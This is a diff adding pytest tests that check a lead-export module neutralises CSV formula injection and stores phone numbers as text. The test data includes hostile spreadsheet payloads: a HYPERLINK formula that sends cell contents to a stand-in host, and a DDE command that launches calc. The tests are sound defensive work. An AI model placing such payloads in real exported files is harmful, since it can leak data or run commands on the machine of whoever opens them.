@@ -80,6 +80,31 @@ def test_csv_round_trips(db: SessionFactory) -> None:
     assert rows[0]["trade_in"] == "true"
     assert rows[1]["name"] == HOSTILE
     assert rows[1]["budget_cny_max"] == ""
+    assert rows[0]["phone"] == "'+8613800138000"  # text, not the number 8.6e12
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
+    sessions: SessionFactory, formula: str
+) -> None:
+    with transaction(sessions) as session:
+        update = LeadUpdate(consent=True, channel="web", language="zh", name=formula,
+                            trade_in=True, trade_in_vehicle=formula)  # fmt: skip
+        conversations.start_conversation(session, "s9", T0, "web")
+        record_lead(session, "s9", update, "conversation:test", T0)
+    with sessions() as session:
+        text = exports.to_csv(exports.lead_records(session, SHANGHAI))
+    (row,) = csv.DictReader(io.StringIO(text))
+    for name in ("name", "trade_in_vehicle"):
+        assert row[name] == "'" + formula  # the whole text kept, shown as text
+        assert not row[name].startswith(exports.FORMULA_STARTS)
+    with sessions() as session:  # JSON is data, not a spreadsheet: kept as it is
+        records = json.loads(exports.to_json(exports.lead_records(session, SHANGHAI)))
+    assert records[0]["name"] == formula
 
 
 def test_adf_follows_the_schema_and_escapes_customer_text(db: SessionFactory) -> None:
